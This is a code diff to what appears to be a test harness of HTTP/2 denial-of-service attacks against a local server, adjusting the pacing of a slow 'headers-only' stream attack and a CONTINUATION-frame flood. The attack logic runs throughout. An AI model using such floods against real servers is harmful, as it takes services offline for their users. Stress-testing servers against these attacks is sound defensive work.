@@ -103,7 +103,11 @@ async def headers_only(attack: Attack) -> None:
     """12,750 calls that never send their message; as each ends, the next begins."""
 
     async def one(connection: Connection) -> None:
-        calls = [connection.begin(LIST_CALL) for _ in range(STREAMS)]
+        calls = []
+        for _ in range(STREAMS // 15):
+            # Within a second: in one go they would be a burst, which is another attack.
+            calls += [connection.begin(LIST_CALL) for _ in range(15)]
+            await asyncio.sleep(0.05)
         attack.begun += len(calls)
         await attack.collect(connection, calls, 12)
         while attack.going and not connection.closed.is_set():
@@ -200,14 +204,15 @@ async def continuation(attack: Attack) -> None:
 
     async def one() -> None:
         while attack.going:
+            await asyncio.sleep(0.08)  # up to 100 connections a second, with 800 KB each
             with suppress(OSError):
                 _, writer = await asyncio.open_connection("127.0.0.1", attack.port)
+                attack.begun += 1
                 writer.write(PREFACE + frame(4, 0, 0, b"") + frame(HEADERS, 0, 1, LIST_CALL))
                 for _ in range(200):
                     writer.write(part)
                     await writer.drain()
                 writer.close()
-            await asyncio.sleep(0.01)
 
     await asyncio.gather(*(one() for _ in range(8)))
 
